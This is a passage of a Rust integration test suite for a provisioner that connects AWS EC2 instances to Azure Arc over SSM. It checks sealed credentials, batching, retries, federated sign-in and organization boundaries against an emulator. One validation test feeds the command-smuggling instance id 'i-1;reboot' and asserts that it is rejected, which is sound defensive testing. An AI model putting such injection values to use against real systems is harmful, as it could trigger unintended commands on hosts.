//! arc-provisioner against the emulator: the member template's documents, managed instances from
//! the harness's model, the real Linux script run in a sandbox per instance (stub agent), and
//! chosen invocation outcomes.

mod common;

use std::collections::{BTreeMap, HashMap};

use aws_config::SdkConfig;
use common::moto::{Call, Moto};
use common::seed;
use connector_engine::arc::ArcProvisioner;
use connector_engine::arc::ArcSettings;
use connector_engine::profile::{ProfileScan, ProfileSettings};
use connector_engine::report::{Action, Outcome, Report, Status};
use serde_json::{Value, json};

const REGION: &str = "us-east-1";
const MANAGEMENT: &str = "123456789012";
const SECRET: &str = "Zq8~onboarding.secret_value-42";
const PROFILE: &str = "MdcConnectorInstanceProfile";
const LINUX_DOC: &str = "MdcConnector-ArcOnboard-Linux";

/// The onboarding service principal of `seed::ARC_ENV`.
const SERVICE_PRINCIPAL: &str = "bbbbbbbb-2222-3333-4444-555555555555";

fn vars(extra: &[(&str, &str)]) -> HashMap<String, String> {
    let mut vars: HashMap<String, String> = seed::ARC_ENV
        .iter()
        .chain(&[("CONNECTOR_REGIONS", REGION)])
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    vars.extend(extra.iter().map(|(k, v)| (k.to_string(), v.to_string())));
    vars
}

/// The settings the tests run with: the Azure target, tokens asked from the emulator's Entra
/// endpoint, and `extra`.
fn config(moto: &Moto, extra: &[(&str, &str)]) -> ArcSettings {
    let authority = moto.entra_authority();
    // Resource Manager (the emulator's, on the same server) answers what the token may do.
    let mut vars = vars(&[("ARC_AUTHORITY_HOST", &authority), ("ARC_RESOURCE_MANAGER_HOST", &authority)]);
    vars.extend(extra.iter().map(|(k, v)| (k.to_string(), v.to_string())));
    ArcSettings::from_lookup(|k| vars.get(k).cloned()).expect("valid test configuration")
}

fn scan_config() -> ProfileSettings {
    let vars = vars(&[]);
    ProfileSettings::from_lookup(|k| vars.get(k).cloned()).expect("valid test configuration")
}

/// An organization of the management account and `members` members, each with the member
/// template deployed and the SSM policy on the connector's instance role (moto ignores
/// `ManagedPolicyArns`), and secretless sign-in: the onboarding application trusts the management
/// account's outbound federation issuer and the function's identity. The application also has a
/// client secret on the Azure side (the Entra endpoint grants tokens for that secret only), which
/// the deployment holds only in the tests that opt into it (`with_secret`).
async fn estate(members: usize) -> (Moto, SdkConfig, Vec<(String, SdkConfig)>) {
    let moto = Moto::start();
    let management = moto.management_config().await;
    let ids = seed::organization(&management, members).await;
    let org = seed::organization_id(&management).await;
    let mut accounts = vec![(MANAGEMENT.to_string(), management.clone())];
    for id in ids {
        let config = moto.account_config(&id).await;
        accounts.push((id, config));
    }
    for (_, config) in &accounts {
        seed::member_stack(config, REGION, MANAGEMENT, &org).await;
        seed::instance_role_policy(config).await;
    }
    seed::azure_federation(&moto, &management).await;
    moto.entra(json!({"clients": {SERVICE_PRINCIPAL: SECRET}}));
    (moto, management, accounts)
}

/// The opt-in fallback: the client secret stored in the management account, and the settings
/// naming it.
async fn with_secret(management: &SdkConfig) -> (&'static str, &'static str) {
    seed::arc_secret(management, SECRET).await;
    seed::ARC_SECRET_SOURCE
}

/// The management account alone (`estate(0)`) with one managed instance: its id.
async fn one_managed_instance() -> (Moto, SdkConfig, String) {
    let (moto, management, accounts) = estate(0).await;
    let id = seed::instance(&accounts[0].1, REGION, &[], Some(PROFILE)).await;
    (moto, management, id)
}

/// The hourly schedule's event (EventBridge Scheduled Event).
fn scheduled() -> Value {
    json!({"version":"0","id":"x","detail-type":"Scheduled Event","source":"aws.events",
        "account":MANAGEMENT,"time":"2026-11-29T00:00:00Z","region":REGION,"resources":[],"detail":{}})
}

/// A manual reprovision of every instance of the management account's region.
fn reprovision_all() -> Value {
    json!({"action":"reprovision","accountId":MANAGEMENT,"region":REGION})
}

fn ssm(config: &SdkConfig) -> aws_sdk_ssm::Client {
    aws_sdk_ssm::Client::from_conf(
        aws_sdk_ssm::config::Builder::from(config).region(aws_config::Region::new(REGION)).build(),
    )
}

async fn run(job: &ArcProvisioner, payload: Value) -> Report {
    job.handle(&payload, None).await.expect("invocation succeeds")
}

fn find<'a>(report: &'a Report, id: &str) -> &'a connector_engine::report::Item {
    report.items.iter().find(|i| i.resource_id == id).unwrap_or_else(|| panic!("no item for {id}: {:#?}", report.items))
}

fn outcome(report: &Report, id: &str) -> (Status, String) {
    let item = find(report, id);
    (item.status, item.outcome.map(|o| o.to_string()).unwrap_or_default())
}

fn sends(calls: &[Call]) -> Vec<Value> {
    calls
        .iter()
        .filter(|c| c.operation == "SendCommand" && !c.injected)
        .map(|c| serde_json::from_str(c.body.as_deref().unwrap_or("{}")).expect("json body"))
        .collect()
}

/// The prepare commands (no credential; each instance answers with a key) among the sends.
fn prepares(sent: &[Value]) -> Vec<&Value> {
    sent.iter().filter(|b| b["Parameters"]["phase"] == json!(["prepare"])).collect()
}

/// The connect commands (sealed credentials) among the sends.
fn connects(sent: &[Value]) -> Vec<&Value> {
    sent.iter().filter(|b| b["Parameters"]["phase"] == json!(["connect"])).collect()
}

#[tokio::test]
async fn provisions_every_managed_instance_reports_the_rest_and_keeps_the_secret_out_of_commands() {
    let (moto, management, accounts) = estate(1).await;
    let mut linux = Vec::new();
    let mut windows = Vec::new();
    let mut others = HashMap::new();
    for (account, config) in &accounts {
        linux.push((account.clone(), seed::instance(config, REGION, &[], Some(PROFILE)).await));
        linux.push((account.clone(), seed::instance(config, REGION, &[("team", "a")], Some(PROFILE)).await));
        windows.push(seed::instance(config, REGION, &[("harness:platform", "Windows")], Some(PROFILE)).await);
    }
    let (member, member_config) = &accounts[1];
    seed::profile(member_config, "/", "NoPolicyProfile", Some(("NoPolicyRole", false))).await;
    others.insert("no-profile", seed::instance(member_config, REGION, &[], None).await);
    others.insert("no-policy", seed::instance(member_config, REGION, &[], Some("NoPolicyProfile")).await);
    others.insert(
        "no-agent",
        seed::instance(member_config, REGION, &[("harness:ssm-agent", "none")], Some(PROFILE)).await,
    );
    others.insert(
        "lost",
        seed::instance(member_config, REGION, &[("harness:ssm-ping", "ConnectionLost")], Some(PROFILE)).await,
    );
    others.insert(
        "opted-out",
        seed::instance(member_config, REGION, &[("mdc-connector:opt-out", "")], Some(PROFILE)).await,
    );

    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    moto.clear_calls();
    let report = run(&job, scheduled()).await;

    for (_, id) in &linux {
        assert_eq!(outcome(&report, id), (Status::Done, "connected".into()), "{:?}", find(&report, id));
    }
    for id in &windows {
        assert_eq!(outcome(&report, id), (Status::Done, "connected".into()));
    }
    let reason = |key: &str| find(&report, &others[key]).reason.clone();
    assert!(reason("no-profile").contains("no instance profile"), "{}", reason("no-profile"));
    assert!(reason("no-policy").contains("lacks AmazonSSMManagedInstanceCore"), "{}", reason("no-policy"));
    assert!(reason("no-agent").contains("SSM agent is not reporting"), "{}", reason("no-agent"));
    assert!(reason("lost").contains("ConnectionLost"), "{}", reason("lost"));
    assert!(reason("opted-out").contains("opted out"), "{}", reason("opted-out"));
    for key in ["no-profile", "no-policy", "no-agent", "lost"] {
        assert_eq!(outcome(&report, &others[key]), (Status::Skipped, "not-managed".into()), "{key}");
    }
    assert_eq!(report.summary.failed, 0, "{:#?}", report.items);
    assert_eq!(report.summary.work_units, 2);

    // Prepare: one command per platform per (account, region), exactly the managed ids, no
    // credential; connect: one per instance, its credential sealed to that instance's own key.
    let calls = moto.calls();
    let sent = sends(&calls);
    let sealed = connects(&sent);
    assert_eq!((sent.len(), sealed.len()), (4 + 6, 6), "{sent:#?}");
    let token = moto.entra_tokens().first().cloned().unwrap_or_default();
    assert!(token.len() > 100, "the emulator's Entra endpoint issued the token: {token}");
    for body in &sent {
        let text = body.to_string();
        assert!(!text.contains(SECRET) && !text.contains(&token[..60]), "credential in SendCommand: {text}");
        assert_eq!(body["Parameters"]["accountId"].as_array().map(Vec::len), Some(1));
        assert!(body["Comment"].as_str().unwrap_or_default().starts_with("mdc-connector arc-provisioner "));
        assert_eq!(body["MaxErrors"], json!("100%"));
        assert!(body["Parameters"].get("credentialParameter").is_none());
    }
    let mut keys = std::collections::BTreeSet::new();
    for body in &sealed {
        assert_eq!(body["InstanceIds"].as_array().map(Vec::len), Some(1), "one instance per sealed value");
        let value = body["Parameters"]["sealedCredential"][0].as_str().unwrap_or_default();
        assert!(value.starts_with("mdcseal1."), "{value}");
        keys.insert(value.split('.').nth(1).unwrap_or_default().to_string());
    }
    assert_eq!(keys.len(), 6, "every instance its own key");
    let listed = ssm(member_config).list_commands().send().await.expect("list commands");
    assert_eq!(listed.commands().len(), 2 + 3);
    for command in listed.commands() {
        let params = format!("{:?}", command.parameters());
        assert!(!params.contains(SECRET), "{params}");
        assert!(command.instance_ids().iter().all(|id| !others.values().any(|o| o == id)));
    }
    assert!(!report.to_json_line().contains(SECRET) && !report.to_json_line().contains(&token[..60]));
    assert!(
        !calls.iter().any(|c| ["PutParameter", "GetParameter", "GetParameters"].contains(&c.operation.as_str())),
        "nothing staged and no parameter read: the credential travels sealed"
    );
    // One token for the whole invocation, for Resource Manager; the Linux agents connected with it
    // (the sandbox's agent accepts only a token the endpoint signed for the tenant, unexpired).
    let requests = moto.entra_requests();
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert_eq!(requests[0]["tenant"], json!("11111111-2222-3333-4444-555555555555"));
    assert_eq!(requests[0]["clientId"], json!(SERVICE_PRINCIPAL));
    assert_eq!(requests[0]["scope"], json!("https://management.azure.com/.default"));
    assert_eq!(requests[0]["granted"], json!(true));
    assert_eq!(requests[0]["credential"], json!("assertion"), "signed in with an AWS identity token, no secret");
    let tokens = moto.federation()["tokens"].as_array().cloned().unwrap_or_default();
    assert_eq!(tokens.len(), 1, "one 60 s AWS identity token per invocation: {tokens:?}");
    assert_eq!(tokens[0]["audiences"], json!(["api://AzureADTokenExchange"]));
    assert_eq!(tokens[0]["durationSeconds"], json!(60));
    let member_items = report.items.iter().filter(|i| &i.account_id == member).count();
    assert_eq!(member_items, 3 + others.len(), "3 provisioned, 5 reported");

    // Second run: nothing sent, every provisioned instance reported as already connected.
    moto.clear_calls();
    let again = run(
        &job,
        json!({"version":"0","id":"y","detail-type":"Scheduled Event","source":"aws.events",
        "account":MANAGEMENT,"time":"2026-11-29T01:00:00Z","region":REGION,"resources":[],"detail":{}}),
    )
    .await;
    let calls = moto.calls();
    assert!(sends(&calls).is_empty());
    assert!(!calls.iter().any(|c| c.operation == "PutParameter" || c.operation == "DeleteParameter"), "no writes");
    // "Connected" is what Azure says: one token per invocation reads the group's machines, and each
    // instance's inventory entry (written from the first run's own commands) matches its machine.
    assert_eq!(moto.entra_requests().len(), 2, "one token for the second invocation, to read Azure");
    for (_, id) in &linux {
        assert_eq!(outcome(&again, id), (Status::Skipped, "already-connected".into()));
        assert!(find(&again, id).reason.contains("Azure shows"), "{:?}", find(&again, id));
    }
}

#[tokio::test]
async fn commands_carry_at_most_fifty_instances_and_throttling_loses_nothing() {
    let (moto, management, accounts) = estate(0).await;
    let config_ = &accounts[0].1;
    let out = seed::ec2(config_, REGION)
        .run_instances()
        .image_id("ami-12c6146b")
        .min_count(60)
        .max_count(60)
        .send()
        .await
        .expect("run");
    let ids: Vec<String> = out.instances().iter().filter_map(|i| i.instance_id()).map(String::from).collect();
    for id in &ids {
        seed::ec2(config_, REGION)
            .associate_iam_instance_profile()
            .instance_id(id)
            .iam_instance_profile(aws_sdk_ec2::types::IamInstanceProfileSpecification::builder().name(PROFILE).build())
            .send()
            .await
            .expect("associate");
    }
    moto.faults(json!([{"service": "ssm", "share": 0.34}]));
    moto.clear_calls();
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    let report = run(&job, reprovision_all()).await;
    for id in &ids {
        assert_eq!(outcome(&report, id), (Status::Done, "connected".into()), "{:?}", find(&report, id));
    }
    let sent = sends(&moto.calls());
    let sizes: Vec<usize> =
        prepares(&sent).iter().map(|b| b["InstanceIds"].as_array().map(Vec::len).unwrap_or(0)).collect();
    assert_eq!(sizes, vec![50, 10], "each instance prepared exactly once, at most 50 per command");
    let mut delivered: Vec<&str> =
        connects(&sent).iter().filter_map(|b| b["InstanceIds"][0].as_str()).collect::<Vec<_>>();
    delivered.sort();
    delivered.dedup();
    assert_eq!((connects(&sent).len(), delivered.len()), (60, 60), "one sealed delivery each");
    assert!(moto.calls().iter().any(|c| c.injected && c.operation == "SendCommand"), "throttling was exercised");
}

#[tokio::test]
async fn chosen_outcomes_reach_a_final_status_and_failures_are_retried_next_run() {
    let (moto, management, accounts) = estate(0).await;
    let config_ = &accounts[0].1;
    let mut ids = Vec::new();
    for _ in 0..4 {
        ids.push(seed::instance(config_, REGION, &[], Some(PROFILE)).await);
    }
    let failed_line =
        r#"MDC_ARC_RESULT {"status":"failed","reason":"connect-failed","detail":"see /var/log/mdc-connector-arc.log"}"#;
    moto.ssm_outcomes(json!([
        {"instanceId": ids[0], "status": "Failed", "responseCode": 1, "output": failed_line},
        {"instanceId": ids[1], "status": "TimedOut"},
        {"instanceId": ids[2], "missingReads": 2, "pendingReads": 2, "status": "Success",
         "output": "MDC_ARC_RESULT {\"status\":\"connected-elsewhere\",\"reason\":\"connected-elsewhere\",\"detail\":\"sub/other\"}"},
    ]));
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    let request = reprovision_all();
    let report = run(&job, request.clone()).await;
    assert_eq!(outcome(&report, &ids[0]), (Status::Failed, "failed".into()));
    assert!(find(&report, &ids[0]).reason.contains("connect-failed"), "{}", find(&report, &ids[0]).reason);
    assert_eq!(outcome(&report, &ids[1]), (Status::Failed, "timed-out".into()));
    assert_eq!(outcome(&report, &ids[2]), (Status::Skipped, "connected-elsewhere".into()));
    assert_eq!(outcome(&report, &ids[3]), (Status::Done, "connected".into()), "the real script ran");
    let gets = moto.calls().iter().filter(|c| c.operation == "ListCommandInvocations").count();
    assert!(gets >= 2, "polled until final");

    // Next run: the failed and timed-out instances are sent again; the others are settled.
    moto.ssm_outcomes(json!([]));
    moto.clear_calls();
    let again = run(&job, request).await;
    let all = sends(&moto.calls());
    let sent = prepares(&all);
    assert_eq!((sent.len(), connects(&all).len()), (1, 2));
    let mut resent: Vec<String> =
        sent[0]["InstanceIds"].as_array().into_iter().flatten().filter_map(|v| v.as_str().map(String::from)).collect();
    resent.sort();
    let mut expected = vec![ids[0].clone(), ids[1].clone()];
    expected.sort();
    assert_eq!(resent, expected);
    assert_eq!(outcome(&again, &ids[2]), (Status::Skipped, "connected-elsewhere".into()));
    assert_eq!(outcome(&again, &ids[3]), (Status::Skipped, "already-connected".into()));
}

#[tokio::test]
async fn reprovision_by_ids_or_tag_with_force_dry_run_and_status_events() {
    let (moto, management, accounts) = estate(0).await;
    let config_ = &accounts[0].1;
    let a = seed::instance(config_, REGION, &[("team", "blue")], Some(PROFILE)).await;
    let b = seed::instance(config_, REGION, &[("team", "red")], Some(PROFILE)).await;
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());

    // Dry run: planned, no write.
    moto.clear_calls();
    let dry = run(&job, json!({"action":"reprovision","accountId":MANAGEMENT,"region":REGION,"dryRun":true})).await;
    assert!(dry.dry_run);
    assert_eq!(find(&dry, &a).status, Status::Planned);
    assert!(
        !moto
            .calls()
            .iter()
            .any(|c| ["SendCommand", "PutParameter", "DeleteParameter"].contains(&c.operation.as_str()))
    );

    // By tag: only the blue instance.
    let report = run(
        &job,
        json!({"action":"reprovision","accountId":MANAGEMENT,"region":REGION,
        "tag":{"key":"team","value":"blue"}}),
    )
    .await;
    assert_eq!(outcome(&report, &a), (Status::Done, "connected".into()));
    assert!(report.items.iter().all(|i| i.resource_id != b));

    // By id without force: already provisioned, not sent. With force: sent again, with force=true.
    moto.clear_calls();
    let report =
        run(&job, json!({"action":"reprovision","accountId":MANAGEMENT,"region":REGION,"instanceIds":[a]})).await;
    assert_eq!(outcome(&report, &a), (Status::Skipped, "already-connected".into()));
    assert!(sends(&moto.calls()).is_empty());
    let report = run(
        &job,
        json!({"action":"reprovision","accountId":MANAGEMENT,"region":REGION,
        "instanceIds":[a, "i-0000000000000dead"],"force":true}),
    )
    .await;
    assert_eq!(outcome(&report, &a), (Status::Skipped, "already-connected".into()), "the script saw it connected");
    assert!(find(&report, "i-0000000000000dead").reason.contains("not found"));
    // Forced: the agent's belief is checked in Azure (prepare, then connect with the token, which
    // finds its machine there).
    let sent = sends(&moto.calls());
    assert_eq!(sent.len(), 2);
    assert!(sent.iter().all(|c| c["Parameters"]["force"] == json!(["true"])), "{sent:#?}");

    // The SSM status-change event reports an invocation's final status, even when SSM does not
    // show the invocation on the first reads (InvocationDoesNotExist just after sending).
    moto.ssm_outcomes(json!([{"instanceId": b, "missingReads": 2}]));
    // A prepare command (as the provisioner sends them): its event reports the key, not a result.
    let parameters: HashMap<String, Vec<String>> =
        serde_json::from_value(sent[0]["Parameters"].clone()).expect("parameters");
    let direct = ssm(config_)
        .send_command()
        .document_name(LINUX_DOC)
        .instance_ids(&b)
        .set_parameters(Some(parameters))
        .send()
        .await
        .expect("send");
    let command_id = direct.command().and_then(|c| c.command_id()).expect("id").to_string();
    let mut event = common::moto::event("ssm-command-status.json");
    event["account"] = json!(MANAGEMENT);
    event["region"] = json!(REGION);
    event["detail"]["command-id"] = json!(command_id);
    event["detail"]["instance-id"] = json!(b);
    moto.clear_calls();
    let report = run(&job, event.clone()).await;
    assert_eq!(outcome(&report, &b), (Status::Done, "in-progress".into()), "{:#?}", report.items);
    assert!(find(&report, &b).reason.contains("sealing key ready"), "{:#?}", report.items);
    let gets: Vec<bool> =
        moto.calls().iter().filter(|c| c.operation == "GetCommandInvocation").map(|c| c.injected).collect();
    assert!(gets.len() >= 3, "retried past InvocationDoesNotExist: {gets:?}");
    event["detail"]["document-name"] = json!("AWS-RunShellScript");
    let report = run(&job, event).await;
    assert!(find(&report, &b).reason.contains("not a connector document"));

    // Bad requests name the bad value.
    let err = job
        .handle(
            &json!({"action":"reprovision","accountId":MANAGEMENT,"region":REGION,"instanceIds":["i-1;reboot"]}),
            None,
        )
        .await
        .expect_err("invalid");
    assert!(err.to_string().contains("i-1;reboot"), "{err}");
}

#[tokio::test]
async fn profile_scan_then_provisioning_and_failures_stay_in_their_unit() {
    let (moto, management, accounts) = estate(2).await;
    let (broken, _) = &accounts[2];
    let (member, member_config) = &accounts[1];
    let fresh = seed::instance(member_config, REGION, &[], None).await;
    let other = seed::instance(&accounts[2].1, REGION, &[], Some(PROFILE)).await;

    // Unmanaged until profile-scan gives it the connector's profile.
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    let request = json!({"action":"reprovision","accountId":member,"region":REGION,"instanceIds":[fresh]});
    assert_eq!(outcome(&run(&job, request.clone()).await, &fresh), (Status::Skipped, "not-managed".into()));
    let scan = ProfileScan::new(scan_config(), management.clone());
    let scanned = scan.handle(&json!({"action":"scan","accountIds":[member]}), None).await.expect("scan");
    assert_eq!(find(&scanned, &fresh).status, Status::Done);

    // profile-scan's report, delivered by its on-success destination, triggers provisioning, and an
    // account whose role cannot be assumed fails alone.
    moto.faults(json!([{"service":"sts","operation":"AssumeRole","match":broken,
        "error":{"status":403,"code":"AccessDenied","message":"not authorized"}}]));
    let mut payload = serde_json::to_value(&scanned).expect("report json");
    payload["items"].as_array_mut().expect("items").push(json!({"accountId":broken,"region":REGION,
        "resourceId":other,"action":"associate-instance-profile","status":"done","reason":""}));
    let record = json!({"version":"1.0","timestamp":"2026-11-29T00:00:00Z",
        "requestContext":{"requestId":"r","functionArn":"arn:aws:lambda:us-east-1:123456789012:function:mdc-connector-profile-scan:$LATEST",
            "condition":"Success","approximateInvokeCount":1},
        "requestPayload":{"action":"scan"},
        "responseContext":{"statusCode":200,"executedVersion":"$LATEST"},
        "responsePayload": payload});
    let report = run(&job, record).await;
    assert_eq!(outcome(&report, &fresh), (Status::Done, "connected".into()), "{:#?}", report.items);
    let failed: Vec<_> = report.items.iter().filter(|i| i.status == Status::Failed).collect();
    assert_eq!(failed.len(), 1, "{failed:#?}");
    assert_eq!(&failed[0].account_id, broken);
    assert!(failed[0].reason.contains("cannot assume"), "{}", failed[0].reason);
    assert_eq!((report.summary.work_units, report.summary.failed_work_units), (2, 1));
}

#[tokio::test]
async fn a_missing_onboarding_secret_fails_clearly_without_sending() {
    let (moto, management, id) = one_managed_instance().await;
    with_secret(&management).await;
    let job = ArcProvisioner::new(config(&moto, &[("ARC_CREDENTIAL_PARAMETER", "/not/there")]), management);
    moto.clear_calls();
    let report = run(&job, reprovision_all()).await;
    let item = find(&report, &id);
    assert_eq!(item.status, Status::Failed);
    assert!(item.reason.contains("ARC_CREDENTIAL_PARAMETER"), "{}", item.reason);
    assert!(sends(&moto.calls()).is_empty());
}

/// Microsoft Entra refuses the service principal (a rotated or wrong secret): every instance
/// fails with Entra's answer, nothing is staged or sent.
#[tokio::test]
async fn a_refused_service_principal_fails_every_instance_with_entras_answer_and_stages_nothing() {
    let (moto, management, id) = one_managed_instance().await;
    moto.entra(json!({"clients": {SERVICE_PRINCIPAL: "another-secret"}}));
    let job = ArcProvisioner::new(config(&moto, &[with_secret(&management).await]), management);
    moto.clear_calls();
    let report = run(&job, reprovision_all()).await;
    let item = find(&report, &id);
    assert_eq!((item.status, item.outcome.map(|o| o.as_str())), (Status::Failed, Some("failed")));
    assert!(item.reason.contains("AADSTS7000215"), "{}", item.reason);
    assert!(item.reason.contains("cannot obtain a Microsoft Entra access token"), "{}", item.reason);
    assert!(!item.reason.contains(SECRET) && !report.to_json_line().contains(SECRET));
    let calls = moto.calls();
    assert!(sends(&calls).is_empty());
    assert!(!calls.iter().any(|c| c.operation == "PutParameter"), "nothing staged");
}

/// Secretless sign-in as Entra checks it: an assertion whose subject, audience or time range the
/// application's federated identity credential does not admit is refused with Entra's answer, and
/// without outbound federation enabled STS refuses the token; each run fails with the reason and
/// the remedy, and nothing is staged or sent.
#[tokio::test]
async fn entra_refuses_a_misaddressed_or_expired_aws_assertion_and_nothing_is_sent() {
    let (moto, management, id) = one_managed_instance().await;
    let (issuer, subject) = seed::azure_federation(&moto, &management).await;
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    let trust = |subject: &str, audience: &str| json!({"federated": {SERVICE_PRINCIPAL: [{"issuer": issuer, "subject": subject, "audiences": [audience]}]}});
    let refused_with = |report: &Report, expected: &str| {
        let item = find(report, &id);
        assert_eq!(item.status, Status::Failed, "{item:?}");
        assert!(item.reason.contains(expected), "{expected}: {}", item.reason);
    };
    moto.clear_calls();

    moto.entra(trust("arn:aws:iam::123456789012:role/SomeOtherRole", "api://AzureADTokenExchange"));
    refused_with(&run(&job, reprovision_all()).await, "AADSTS70021");

    moto.entra(trust(&subject, "api://AzureADTokenExchangeUSGov"));
    refused_with(&run(&job, reprovision_all()).await, "AADSTS700212");

    // Entra sees the 60 s assertion two minutes after STS signed it.
    moto.entra(json!({"clockOffset": 120}));
    moto.entra(trust(&subject, "api://AzureADTokenExchange"));
    refused_with(&run(&job, reprovision_all()).await, "AADSTS700024");
    moto.entra(json!({"clockOffset": 0}));

    seed::iam(&management).disable_outbound_web_identity_federation().send().await.expect("disable");
    let report = run(&job, reprovision_all()).await;
    refused_with(&report, "OutboundWebIdentityFederationDisabledException");
    refused_with(&report, "enable-outbound-web-identity-federation");

    let granted = moto.entra_requests().iter().filter(|r| r["granted"] == json!(true)).count();
    assert_eq!(granted, 0, "no token was granted");
    let calls = moto.calls();
    assert!(sends(&calls).is_empty() && !calls.iter().any(|c| c.operation == "PutParameter"), "nothing staged or sent");

    // The same trust, enabled again: the run connects the instance.
    seed::iam(&management).enable_outbound_web_identity_federation().send().await.expect("enable");
    let report = run(&job, reprovision_all()).await;
    assert_eq!(outcome(&report, &id), (Status::Done, "connected".into()), "{:?}", find(&report, &id));
}

/// A token with too little life left is not sent (an instance could receive it expired), nor one
/// claiming an implausibly long life.
#[tokio::test]
async fn short_lived_and_implausibly_long_lived_tokens_are_refused() {
    let (moto, management, id) = one_managed_instance().await;
    let request = reprovision_all();
    moto.entra(json!({"lifetime": 600}));
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    let report = run(&job, request.clone()).await;
    let item = find(&report, &id);
    assert_eq!(item.status, Status::Failed);
    assert!(item.reason.contains("expires in less than 15 minutes"), "{}", item.reason);

    // A token claiming more life than Entra ever gives (28 hours) is refused too.
    moto.entra(json!({"lifetime": 29 * 3600}));
    let report = run(&job, request.clone()).await;
    let item = find(&report, &id);
    assert_eq!(item.status, Status::Failed);
    assert!(item.reason.contains("more than 28 hours"), "{}", item.reason);
}

/// `ARC_CREDENTIAL_MODE=service-principal-secret`: the secret itself is sealed to the instance (no token asked
/// for), and the agent connects with it and the service principal's id.
#[tokio::test]
async fn the_service_principal_secret_is_sent_only_when_opted_in_and_only_sealed() {
    let (moto, management, id) = one_managed_instance().await;
    let source = with_secret(&management).await;
    let job =
        ArcProvisioner::new(config(&moto, &[source, ("ARC_CREDENTIAL_MODE", "service-principal-secret")]), management);
    moto.clear_calls();
    let report = run(&job, reprovision_all()).await;
    assert_eq!(outcome(&report, &id), (Status::Done, "connected".into()), "{:?}", find(&report, &id));
    let requests = moto.entra_requests();
    assert_eq!(requests.len(), 1, "one token, signed in with the secret, to check its rights: {requests:?}");
    assert_eq!(requests[0]["credential"], json!("secret"));
    assert!(moto.arm_state()["permissionReads"].as_u64() >= Some(1), "the application's rights were checked");
    let sent = sends(&moto.calls());
    assert_eq!(connects(&sent).len(), 1, "the secret went sealed");
    for body in &sent {
        assert_eq!(body["Parameters"]["credentialType"], json!(["service-principal-secret"]));
        assert!(!body.to_string().contains(SECRET));
    }
}

#[test]
fn an_incomplete_azure_target_names_the_missing_variable() {
    let err =
        ArcSettings::from_lookup(|k| (k == "ARC_TENANT_ID").then(|| "11111111-2222-3333-4444-555555555555".into()))
            .expect_err("incomplete");
    assert_eq!(err.variable, "ARC_SUBSCRIPTION_ID");
}

/// A reprovision request or a status event names its account: one that is not an ACTIVE account
/// of the organization is reported and never entered.
#[tokio::test]
async fn requests_and_events_for_accounts_outside_the_organization_are_refused() {
    let (moto, management, _accounts) = estate(1).await;
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    moto.clear_calls();
    let stranger = "999999999999";
    let report = run(&job, json!({"action":"reprovision","accountId":stranger,"region":REGION})).await;
    assert_eq!(report.items.len(), 1, "{:?}", report.items);
    assert_eq!(report.items[0].status, Status::Skipped);
    assert!(report.items[0].reason.contains("not an account of this organization"), "{:?}", report.items);

    let mut status = common::moto::event("ssm-command-status.json");
    status["account"] = json!(stranger);
    status["region"] = json!(REGION);
    let report = run(&job, status).await;
    assert!(report.items[0].reason.contains("not an account of this organization"), "{:?}", report.items);
    assert!(moto.calls().iter().all(|c| c.operation != "AssumeRole"), "never entered");
    assert!(moto.calls().iter().all(|c| c.service != "ssm"));
}

/// The queue path: the schedule enqueues one unit per (account, region), and the workers (fed by
/// the event-source-mapping poller) connect every instance; profile-scan's hand-off message (some
/// instances of one unit) is consumed the same way.
#[tokio::test]
async fn scheduled_units_and_hand_offs_are_provisioned_from_the_work_queue() {
    let (moto, management, accounts) = estate(1).await;
    let work = common::poller::WorkQueue::create(&management, "arc-provisioner-work", 3, 1).await;
    let mut ids = Vec::new();
    for (account, config) in &accounts {
        ids.push((account.clone(), seed::instance(config, REGION, &[], Some(PROFILE)).await));
    }
    let settings = config(&moto, &[("WORK_QUEUE_URL", &work.url)]);
    let job = ArcProvisioner::new(settings, management.clone());
    moto.clear_calls();

    let planned = run(&job, common::moto::event("scheduled-event.json")).await;
    assert_eq!(planned.items.iter().filter(|i| i.action == "enqueue" && i.status == Status::Done).count(), 2);
    assert!(moto.calls().iter().all(|c| c.operation != "SendCommand"), "the planner sends no command");
    let drain = |payload: Value| {
        let job = &job;
        async move { serde_json::to_value(job.handle(&payload, None).await.expect("handled")).expect("json") }
    };
    let answers = work.drain(drain, std::time::Duration::from_secs(2), std::time::Duration::from_secs(120)).await;
    let items: Vec<&Value> = answers.iter().flat_map(|a| a["items"].as_array().unwrap().iter()).collect();
    for (_, id) in &ids {
        assert!(
            items.iter().any(|i| i["resourceId"] == id.as_str() && i["outcome"] == "connected"),
            "{id}: {answers:?}"
        );
    }

    // A hand-off from profile-scan: one unit, one instance.
    let (member, member_config) = &accounts[1];
    let fresh = seed::instance(member_config, REGION, &[], Some(PROFILE)).await;
    work.send(
        &json!({"job": "arc-provisioner", "accountId": member, "region": REGION, "instanceIds": [fresh]}).to_string(),
    )
    .await;
    let answers = work.drain(drain, std::time::Duration::from_secs(2), std::time::Duration::from_secs(120)).await;
    let items: Vec<&Value> = answers.iter().flat_map(|a| a["items"].as_array().unwrap().iter()).collect();
    assert!(items.iter().any(|i| i["resourceId"] == fresh.as_str() && i["outcome"] == "connected"), "{answers:?}");
    assert!(items.iter().all(|i| i["resourceId"] != ids[1].1.as_str()), "only the handed-off instance");
    assert!(work.dead_letters().await.is_empty());
}

/// Issue "coverage you can prove", item 7: each whole unit's coverage is kept with the inventory and
/// every invocation that runs units reports the estate's totals, so a run split across queued
/// invocations (one unit each) ends with the same totals as one inline run, where each invocation's
/// own counts would show a single unit; `{"action":"coverage"}` answers the table.
#[tokio::test(flavor = "multi_thread")]
async fn the_estates_coverage_is_the_same_whether_a_run_is_inline_or_split_across_invocations() {
    let (moto, management, accounts) = estate(1).await;
    let mut unmanaged = Vec::new();
    for (_, config) in &accounts {
        seed::instance(config, REGION, &[], Some(PROFILE)).await;
        unmanaged.push(seed::instance(config, REGION, &[], None).await);
    }
    let estate_of = |metrics: &[(&str, usize)]| -> BTreeMap<String, usize> {
        metrics.iter().filter(|(name, _)| name.starts_with("Estate")).map(|(n, v)| (n.to_string(), *v)).collect()
    };
    let inline = ArcProvisioner::new(config(&moto, &[]), management.clone());
